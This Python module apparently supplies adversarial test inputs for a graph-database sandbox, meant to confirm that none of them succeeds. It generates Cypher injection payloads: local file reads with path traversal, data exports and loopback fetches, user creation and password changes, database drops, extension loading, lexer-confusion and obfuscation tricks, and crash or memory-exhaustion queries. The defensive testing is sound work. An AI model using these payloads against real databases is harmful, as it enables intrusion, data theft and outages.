"""More than 200 texts for each engine that try to reach out of the graph database, or to break it; none of them may."""

from __future__ import annotations

import re
from collections.abc import Callable
from itertools import product
from pathlib import Path

#: Statements of the embedded engine that open, make, remove or load something; {secret}, {stolen}, {folder} are places.
REACHING = (
    'LOAD FROM "{secret}" (file_format="csv", header=false, delim="|") RETURN column0 AS a',
    'LOAD FROM "{folder}/*.csv" (header=false) RETURN *',
    'LOAD FROM "{folder}/secret.json" RETURN *',
    'LOAD FROM "{folder}/secret.parquet" RETURN *',
    'LOAD FROM "{folder}/secret.npy" RETURN *',
    'LOAD FROM "https://127.0.0.1:9/x.csv" RETURN *',
    'LOAD FROM "s3://bucket/x.parquet" RETURN *',
    'COPY (MATCH (a:Account) RETURN a.id) TO "{stolen}"',
    'COPY (RETURN 1 AS a) TO "{stolen}.parquet"',
    'COPY (RETURN 1 AS a) TO "{stolen}.json"',
    'COPY (RETURN 1 AS a) TO "{secret}"',
    'COPY Account FROM "{secret}" (header=false)',
    "EXPORT DATABASE '{stolen}'",
    "EXPORT DATABASE '{stolen}' (format='csv')",
    "IMPORT DATABASE '{folder}'",
    "ATTACH '{secret}' AS x (dbtype duckdb)",
    "ATTACH '{secret}' AS x (dbtype sqlite)",
    "ATTACH '{secret}' AS x (dbtype lbug)",
    "INSTALL httpfs",
    "INSTALL json FROM 'http://127.0.0.1:9/'",
    "LOAD EXTENSION httpfs",
    "LOAD EXTENSION '{folder}/evil.lbug_extension'",
    "FORCE INSTALL httpfs",
    "UNINSTALL httpfs",
    "CALL spill_to_disk_tmp_file='{stolen}'",
    "CALL home_directory='{folder}'",
    "CALL file_search_path='{folder}'",
    "CALL clear_attached_db_schema_cache() RETURN *",
    "CALL show_attached_databases() RETURN *",
    "CALL read_csv('{secret}') RETURN *",
    "CALL READ_PARQUET('{folder}/secret.parquet') RETURN *",
    "CHECKPOINT",
    "CREATE (a:Account {id: 'x'})",
    "MATCH (a:Account) SET a.name = 'x'",
    "DROP TABLE Account",
    "CREATE MACRO m(x) AS x + 1",
)
#: Ways to hide a statement from whoever reads the text with another lexer.
HIDING = (
    "{q}",
    "MATCH (n:Account) RETURN count(*) AS a; {q}",
    "MATCH (n:Account) RETURN count(*) AS a /***/ ORDER BY '*/; {q} //'",
    "MATCH (n:Account) RETURN count(*) AS a /* **/ ORDER BY '*/; {q} //'",
    "MATCH (n:Account) RETURN n.id AS a /****/ ORDER BY '*/ LIMIT 0 UNION ALL {q} //'",
)
#: Escapes and comments on their own: what one lexer takes for a part of a text, and another for its end; @ is code.
LEXING = (
    "RETURN 'a\\u0027 AS a; @ //'",
    "RETURN 'a\\U00000027 AS a; @ //'",
    "RETURN 'a\\x27 AS a; @ //'",
    "RETURN 'a\\' AS a; @ //'",
    "RETURN 'a\\\\' AS a; @ //'",
    "RETURN 'a''; @ //' AS a",
    'RETURN "a""; @ //" AS a',
    "RETURN 1 AS `a``; @ //`",
    "RETURN 1 AS `a\\`; @ //`",
    "RETURN 1 AS a // x\r; @",
    "RETURN 1 AS a // x\u2028; @",
    "RETURN 1 AS a // x\u2029; @",
    "RETURN 1 AS a // x\x85; @",
    "RETURN 1 AS a // x\x0b; @",
    "RETURN 1 AS a /* /* */ ; @ /* */ */",
    "RETURN 1 AS a /*/ ; @ /*/",
    "RETURN 1 AS a /**/; @",
    "RETURN 1 AS a # ; @",
    "RETURN 1 AS a -- ; @",
    "RETURN 1 AS a\x00; @",
    "RETURN 1 AS a\ufeff; @",
    "\ufeff@",
    "RETURN $$; @ $$ AS a",
    "RETURN $`a`; @",
    "RETURN '\u2019; @ //\u2018' AS a",
    "EXPLAIN @",
    "PROFILE @",
    "EXPLAIN LOGICAL @",
    "CALL { @ } RETURN 1 AS a",
    "MATCH (a:Account) WHERE EXISTS { @ } RETURN a.id AS a",
    "WITH 1 AS x @",
    "UNWIND [1] AS x @",
    "@ UNION ALL RETURN 1 AS a",
    "BEGIN TRANSACTION; @; COMMIT",
    "ROLLBACK; @",
)
#: The same of a Neo4j server; {port} is where somebody listens.
SERVER_REACHING = (
    "LOAD CSV FROM 'file://{secret}' AS r RETURN r",
    "LOAD CSV WITH HEADERS FROM 'file:{secret}' AS r FIELDTERMINATOR '|' RETURN r",
    "LOAD CSV FROM 'FILE://localhost{secret}' AS r RETURN r",
    "LOAD CSV FROM 'file:///../../../../../../../../..{secret}' AS r RETURN r",
    "LOAD CSV FROM 'http://127.0.0.1:{port}/x.csv' AS r RETURN r",
    "LOAD CSV FROM 'https://127.0.0.1:{port}/x.csv' AS r RETURN r",
    "LOAD CSV FROM 'ftp://127.0.0.1:{port}/x.csv' AS r RETURN r",
    "LOAD CSV FROM 'jar:http://127.0.0.1:{port}/x.jar!/x.csv' AS r RETURN r",
    "LOAD CSV FROM 'fi' + 'le://{secret}' AS r RETURN r",
    "WITH 'file://{secret}' AS f LOAD CSV FROM f AS r RETURN r",
    "MATCH (a:Account) LOAD CSV FROM 'http://127.0.0.1:{port}/' + a.id AS r RETURN count(*) AS n",
    "MATCH (a:Account) CALL { LOAD CSV FROM 'file://{secret}' AS r RETURN r } RETURN r",
    "MATCH (a:Account) CALL (a) { LOAD CSV FROM 'file://{secret}' AS r RETURN r } RETURN r",
    "OPTIONAL CALL { LOAD CSV FROM 'file://{secret}' AS r RETURN r } RETURN r",
    "RETURN COUNT { LOAD CSV FROM 'file://{secret}' AS r RETURN r } AS n",
    "RETURN COLLECT { LOAD CSV FROM 'file://{secret}' AS r RETURN r[0] } AS n",
    "RETURN CASE WHEN EXISTS { LOAD CSV FROM 'file://{secret}' AS r RETURN r } THEN 1 END AS n",
    "RETURN [x IN [1] WHERE EXISTS { LOAD CSV FROM 'file://{secret}' AS r RETURN r } | x] AS n",
    "RETURN reduce(n = 0, x IN [1] | n + COUNT { LOAD CSV FROM 'file://{secret}' AS r RETURN r }) AS n",
    "MATCH (a) WHERE COUNT { LOAD CSV FROM 'http://127.0.0.1:{port}/' AS r RETURN r } > 0 RETURN a",
    "RETURN 1 AS r UNION LOAD CSV FROM 'file://{secret}' AS r RETURN r",
    "USING PERIODIC COMMIT 500 LOAD CSV FROM 'file://{secret}' AS r CREATE (:Q)",
    "UNWIND range(1, 9) AS x CALL { WITH x CREATE (:Q {x: x}) } IN TRANSACTIONS OF 2 ROWS",
    "UNWIND range(1, 9) AS x CALL (x) { CREATE (:Q {x: x}) } IN 2 CONCURRENT TRANSACTIONS RETURN 1 AS a",
    "CREATE (:Q)",
    "MERGE (:Q)",
    "MATCH (a:Account) SET a.name = 'z' RETURN a",
    "MATCH (a:Account) REMOVE a.id",
    "MATCH (a) DETACH DELETE a",
    "FOREACH (x IN [1] | CREATE (:Q))",
    "INSERT (:Q)",
    "CREATE INDEX stolen FOR (a:Account) ON (a.name)",
    "CREATE FULLTEXT INDEX stolen FOR (a:Account) ON EACH [a.name]",
    "CREATE CONSTRAINT stolen FOR (a:Account) REQUIRE a.name IS UNIQUE",
    "DROP CONSTRAINT kol_account_id",
    "SHOW USERS",
    "SHOW PRIVILEGES",
    "CREATE USER eve SET PASSWORD 'eve-eve-eve' CHANGE NOT REQUIRED",
    "ALTER USER neo4j SET PASSWORD 'eve-eve-eve'",
    "ALTER CURRENT USER SET PASSWORD FROM 'a' TO 'b'",
    "CREATE DATABASE stolen",
    "CREATE ALIAS stolen FOR DATABASE neo4j AT 'neo4j://127.0.0.1:{port}' USER eve PASSWORD 'eve'",
    "STOP DATABASE neo4j",
    "DROP DATABASE neo4j DUMP DATA",
    "TERMINATE TRANSACTIONS 'neo4j-transaction-1'",
    "SHOW TRANSACTIONS YIELD transactionId AS t TERMINATE TRANSACTIONS t",
    "CALL db.createLabel('stolen')",
    "CALL db.createProperty('stolen')",
    "CALL db.create.setNodeVectorProperty(null, 'x', [1.0])",
    "CALL db.clearQueryCaches()",
    "CALL dbms.listConfig() YIELD name RETURN name",
    "CALL dbms.killConnection('bolt-0')",
    "CALL dbms.queryJmx('java.lang:*') YIELD name RETURN name",
    "CALL dbms.upgrade()",
    "CALL dbms.setConfigValue('server.directories.import', '/')",
    "CALL dbms.security.createUser('eve', 'eve')",
    "CALL tx.setMetaData({a: 1})",
    "RETURN COUNT { CALL dbms.components() YIELD name RETURN name } AS n",
    "CALL apoc.load.json('file://{secret}') YIELD value RETURN value",
    "CALL apoc.load.csv('http://127.0.0.1:{port}/') YIELD list RETURN list",
    "CALL apoc.export.csv.all('{stolen}', {})",
    "CALL apoc.cypher.runFile('{secret}')",
    "CALL apoc.periodic.iterate('RETURN 1', 'CREATE (:Q)', {})",
    "RETURN apoc.cypher.runFirstColumnSingle('CREATE (:Q) RETURN 1', {}) AS a",
    "CALL gds.graph.export.csv('g', {exportName: '{stolen}'})",
)
#: Ways to write the same, or to hide it, that the server's lexer and prefixes know.
SERVER_HIDING = (
    "{q};",
    "// x\n{q}",
    "/***/ {q} /* x */",
    "EXPLAIN {q}",
    "PROFILE {q}",
    "CYPHER 5 runtime=slotted {q}",
    "USE neo4j {q}",
    "USE system {q}",
    "MATCH (n:Account) RETURN count(*) AS a; {q}",
    "CYPHER 25 MATCH (n:Account) RETURN count(*) AS a NEXT {q}",
    "CALL { {q} } RETURN 1 AS a",
)
#: Ways to spell a word: other spaces, other case, a comment or an escape inside.
SPELLING: tuple[Callable[[str], str], ...] = (
    str.swapcase,
    lambda word: word.replace(" ", "/**/"),
    lambda word: word.replace(" ", "\n\t\u2003\xa0"),
    lambda word: "".join(rf"\u{ord(letter):04x}" for letter in word),
    lambda word: rf"\u{ord(word[0]):04X}{word[1:]}",
    lambda word: rf"\uu{ord(word[0]):04x}{word[1:]}",
)
#: What made the engine crash, hang or take the memory of the machine.
BREAKING = (
    "RETURN " + "[" * 1000 + "1" + "]" * 1000 + " AS a",
    "RETURN " + "(" * 3000 + "1" + ")" * 3000 + " AS a",
    "RETURN " + "{a:" * 1000 + "1" + "}" * 1000 + " AS a",
    "RETURN " + "abs(" * 1000 + "1" + ")" * 1000 + " AS a",
    "RETURN " + "CASE WHEN true THEN " * 40 + "1" + " END" * 40 + " AS a",
    "RETURN " + "NOT " * 5000 + "true AS a",
    "RETURN size(range(1, 100000000)) AS n",
    "RETURN size(range(1, 9223372036854775807)) AS n",
    "RETURN repeat('abcdefghij', 1000000000) AS a",
)


def texts(folder: Path) -> list[str]:
    """All that try to reach out of the embedded engine, towards the files that `targets` makes."""
    load = 'LOAD FROM "{secret}" (header=false) RETURN *'
    return _placed([*_hidden(HIDING, REACHING), *(text.replace("@", load) for text in LEXING)], folder)


def server_texts(folder: Path, port: int) -> list[str]:
    """All that try to reach out of a server, towards these files and whoever listens at the port."""
    load = 'LOAD CSV FROM "file://{secret}" AS r RETURN r'
    words = re.compile(r"(LOAD CSV|CALL (?=\w)|CREATE|DATABASE)")
    some = SERVER_REACHING[::5]
    hidden = [*_hidden(SERVER_HIDING, some), *_hidden(HIDING[2:], some[:3])]
    spelt = [  # every second part is one of the words
        "".join(spell(part) if i % 2 else part for i, part in enumerate(words.split(q)))
        for spell, q in product(SPELLING, some)
    ]
    lexed = [text.replace("@", load) for text in LEXING]
    return list(dict.fromkeys(_placed([*SERVER_REACHING, *hidden, *spelt, *lexed], folder, port)))


def _hidden(ways: tuple[str, ...], statements: tuple[str, ...]) -> list[str]:
    return [
        way.replace("{q}", statement.replace("'", '"') if "'" in way else statement)
        for way, statement in product(ways, statements)
    ]


def _placed(found: list[str], folder: Path, port: int = 9) -> list[str]:
    """Texts with the places that they name."""
    places = {"secret": folder / "secret.csv", "stolen": folder / "stolen", "folder": folder, "port": port}
    return [re.sub(r"\{(secret|stolen|folder|port)\}", lambda name: str(places[name[1]]), text) for text in found]
